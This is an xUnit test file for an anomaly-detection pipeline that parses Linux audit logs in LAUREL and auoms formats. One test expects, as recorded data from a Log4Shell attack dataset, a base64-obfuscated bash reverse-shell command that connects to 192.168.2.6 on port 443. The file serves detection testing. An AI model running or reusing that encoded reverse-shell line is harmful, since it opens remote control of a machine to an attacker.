using Anomaly.Pipeline.Ingest;
using Shouldly;
using Xunit;

namespace Anomaly.Tests.Ingest;

/// <summary>Audit events as LAUREL and auoms write them.</summary>
public class AuditdVariantsTests
{
    private const string Auoms = "part1-syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json.gz";

    private const string Call = "\"SYSCALL\":{\"arch\":\"0xc000003e\",\"syscall\":59,\"success\":\"yes\",\"exit\":0,\"ppid\":7,\"pid\":8,\"auid\":1000,\"uid\":0,\"exe\":\"/usr/bin/perl (deleted)\",\"SYSCALL\":\"execve\",\"AUID\":\"ann\",\"UID\":\"root\",\"ARGV\":[\"0x1\",\"0x2\"]}";

    [Fact]
    public void Laurel_gives_the_arguments_as_a_shell_would_split_them()
    {
        var sink = Laurel("""{"ID":"1626611363.720:348501","NODE":"web1",""" + Call + ""","EXECVE":{"argc":3,"ARGV":["perl","-e","use Socket;%0a$a=\"b\";100%25"]},"CWD":{"cwd":"/root"},"PATH":[{"item":0,"name":"/usr/bin/perl","mode":"0o100755","nametype":"NORMAL"}],"PROCTITLE":{"ARGV":["perl"]}}""");
        var process = sink.Processes.ShouldHaveSingleItem();
        string.Join('|', process["time"], process["host"], process["user"], process["image"], process["pid"], process["sensor"])
            .ShouldBe("1626611363720000|web1|ann|/usr/bin/perl|8|auditd");
        process["command_line"].ShouldBe("perl -e 'use Socket;\n$a=\"b\";100%'");
        sink.Stats.Records.ShouldBe(1);
        sink.Files.ShouldBeEmpty();
    }

    [Fact]
    public void Laurel_with_joined_arguments_and_behind_a_mark()
    {
        var sink = Laurel($"@cee: {{\"ID\":\"1.5:7\",{Call.Replace("\"auid\":1000", "\"auid\":4294967295", StringComparison.Ordinal)},\"EXECVE\":{{\"argc\":2,\"ARGV_STR\":\"perl -e%0a1\"}}}}\n", host: "h9");
        var process = sink.Processes.ShouldHaveSingleItem();
        string.Join('|', process["time"], process["host"], process["user"], process["command_line"]).ShouldBe("1500000|h9|root|perl -e\n1");
    }

    [Fact]
    public void Laurel_files_and_connections()
    {
        const string head = "\"SYSCALL\":{\"arch\":\"0xc000003e\",\"success\":\"yes\",\"exit\":3,\"pid\":8,\"auid\":5,\"exe\":\"/bin/x\",";
        var sink = Laurel(string.Join('\n',
            "{\"ID\":\"1.000:1\"," + head + "\"syscall\":257,\"ARGV\":[\"0xffffff9c\",\"0x7f\",\"0x241\"]},\"CWD\":{\"cwd\":\"/home/a\"},\"PATH\":[{\"item\":0,\"name\":\"/home/a\",\"mode\":\"0o40755\",\"nametype\":\"PARENT\"},{\"item\":1,\"name\":\"n%c3%a9w\",\"mode\":\"0o100644\",\"nametype\":\"CREATE\"}]}",
            "{\"ID\":\"2.000:2\"," + head + "\"syscall\":257,\"a0\":\"0xffffff9c\",\"a1\":\"0x7f\",\"a2\":\"0x0\"},\"CWD\":{\"cwd\":\"/home/a\"},\"PATH\":[{\"item\":0,\"name\":\"old\",\"mode\":\"0o100644\",\"nametype\":\"NORMAL\"}]}",
            "{\"ID\":\"3.000:3\"," + head + "\"syscall\":257,\"a2\":\"0x0\"},\"PATH\":[{\"item\":0,\"name\":\"/home\",\"mode\":\"0o040755\",\"nametype\":\"NORMAL\"}]}",
            "{\"ID\":\"4.000:4\"," + head + "\"syscall\":42},\"SOCKADDR\":[{\"saddr\":\"%02%00%01%bb%8cRp%03%00%00%00%00%00%00%00%00\"}]}",
            "{\"ID\":\"5.000:5\",\"SYSCALL\":{\"arch\":\"0xc000003e\",\"syscall\":42,\"success\":\"no\",\"exit\":-115,\"auid\":5,\"exe\":\"/bin/x\"},\"SOCKADDR\":[{\"saddr\":\"%02%00%01%bb%8cRp%04%00%00%00%00%00%00%00%00\"}]}",
            "{\"ID\":\"6.000:6\",\"SYSCALL\":{\"arch\":\"0xc000003e\",\"syscall\":42,\"success\":\"no\",\"exit\":-2,\"exe\":\"/bin/x\"},\"SOCKADDR\":[{\"saddr\":\"%01%00/var/run/nscd/socket%00\"}]}",
            "{\"ID\":\"7.000:7\",\"SYSCALL\":{\"arch\":\"0xc000003e\",\"syscall\":437,\"success\":\"yes\",\"auid\":5,\"exe\":\"/bin/x\"},\"OPENAT2\":[{\"oflag\":\"0o1\"}],\"PATH\":[{\"item\":0,\"name\":\"/w\",\"mode\":\"0o100644\",\"nametype\":\"NORMAL\"}]}"));
        sink.Files.Select(f => $"{f["time"]} {f["operation"]} {f["path"]} {f["image"]} {f["user"]}").ShouldBe(["1000000 create /home/a/néw /bin/x 5", "2000000 read /home/a/old /bin/x 5", "7000000 write /w /bin/x 5"]);
        sink.Flows.Select(f => $"{f["dst_ip"]}:{f["dst_port"]} {f["process"]} {f["process_link"]} {f["bytes_known"]} {f["state"]}").ShouldBe(["140.82.112.3:443 /bin/x exact 0 ", "140.82.112.4:443 /bin/x exact 0 EINPROGRESS"]);
        sink.Rejects.ShouldBeEmpty();
        sink.Stats.Records.ShouldBe(7);
    }

    [Fact]
    public void Laurel_lines_that_cannot_be_used()
    {
        var sink = Laurel($"{{\"ID\":\"1.5:7\",{Call},\"EXECVE\":{{\"ARGV\":[\"a\"]}}}}\nwords\n{{\"ID\":\"soon\",{Call}}}\n\n{{\"ID\":\"1.5:8\",{Call[..20]}");
        sink.Rejects.Select(r => (r.Line, r.Reason)).ShouldBe([(2, "not a JSON object"), (3, "no event id"), (5, "not a JSON object")]);
        sink.Processes.Count.ShouldBe(1);
        sink.Stats.Records.ShouldBe(4);
    }

    [Fact]
    public void A_log_of_auoms_agrees_with_its_facts()
    {
        var sink = new RecordingSink();
        LogFileReader.Read(TestPaths.Corpus("auditd-variants", "otrf-log4shell", Auoms), new LogReadOptions(), sink).Format.ShouldBe("auditd-auoms");
        sink.Stats.Records.ShouldBe(20);
        sink.Rejects.ShouldBeEmpty();
        sink.Stats.FirstTime.ShouldBe(1652292621986000);
        sink.Stats.LastTime.ShouldBe(1652292622146000);
        // Nine of the twenty are attempts that failed.
        sink.Processes.Select(p => p["command_line"]).ShouldBe(
        [
            "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"", "bash -i", "base64 -d", "groups",
            "/bin/sh /usr/bin/lesspipe", "basename /usr/bin/lesspipe", "dirname /usr/bin/lesspipe", "dircolors -b", "man -f bash", "whatis bash", "bash -i",
        ]);
        sink.Processes.ShouldAllBe(p => p["host"] == "UBUNTU5");
        sink.Processes.Select(p => p["user"]).Distinct().ShouldBe(["tomcat", "nobody"]);
        sink.Processes[0]["image"].ShouldBe("/bin/bash");
        sink.Processes[0]["pid"].ShouldBe("17790");
        sink.Processes[0]["time"].ShouldBe("1652292621990000");
    }

    [Fact]
    public void Auoms_in_syslog_lines_and_its_other_records()
    {
        const string head = "May 11 18:10:21 u5 auoms[1]: type=AUOMS_";
        var sink = Read(
            head + "SYSCALL audit(2.5:9): SchemaVersion=\"1\" node=u5 arch=x86_64 syscall=rename success=yes exit=0 pid=3 audit_user=ann auid=1000 user=root uid=0 exe=\"/bin/mv\" cwd=\"/srv\" path_name=[\"/srv\",\"a b\",\"c\"] path_nametype=[\"PARENT\",\"DELETE\",\"CREATE\"] path_mode=[\"040755\",\"0100644\",\"0100644\"] proctitle=mv a b success=no\n"
            + head + "SYSCALL audit(3.5:9): node=u5 arch=x86_64 syscall=connect success=yes exit=0 pid=3 auid=1000 user=root exe=\"/usr/bin/git\" saddr_r=020001BB8C527003\n"
            + head + "EXECVE audit(x): node=u5\nMay 11 18:10:21 u5 cron[1]: something\n" + head + "EXECVE audit(4.5:9): node=u5 exe=\"/bin/x", "auditd-auoms");
        sink.Files.ShouldHaveSingleItem()["path"].ShouldBe("/srv/c");
        sink.Files[0]["operation"].ShouldBe("rename");
        sink.Files[0]["user"].ShouldBe("ann");
        sink.Flows.ShouldHaveSingleItem()["dst_ip"].ShouldBe("140.82.112.3");
        sink.Flows[0]["user"].ShouldBe("1000");
        sink.Rejects.Select(r => (r.Line, r.Reason)).ShouldBe([(3, "not an audit record"), (5, "record is cut")]);
        sink.Stats.RecordsByStream.ShouldBe([new("other", 1)]);
        sink.Stats.Records.ShouldBe(5);
    }

    [Fact]
    public void Enriched_records_of_the_daemon_name_the_account()
    {
        var process = Read("type=SYSCALL msg=audit(1626611363.720:1): arch=c000003e syscall=59 success=yes exit=0 pid=5 auid=1000 uid=0 exe=\"/usr/bin/perl\" key=(null)\u001dARCH=x86_64 SYSCALL=execve AUID=\"ann\" UID=\"root\"\ntype=EXECVE msg=audit(1626611363.720:1): argc=2 a0=\"perl\" a1=2D76", "auditd-raw")
            .Processes.ShouldHaveSingleItem();
        string.Join('|', process["user"], process["command_line"], process["image"]).ShouldBe("ann|perl -v|/usr/bin/perl");
    }

    private static RecordingSink Laurel(string log, string host = "") => Read(log, "auditd-laurel", host);

    private static RecordingSink Read(string log, string format, string host = "")
    {
        LogFormats.Sniff(System.Text.Encoding.UTF8.GetBytes(log), "x")!.Format.ShouldBe(format);
        return RecordingSink.Read(log, "x", new LogReadOptions(Host: host));
    }
}
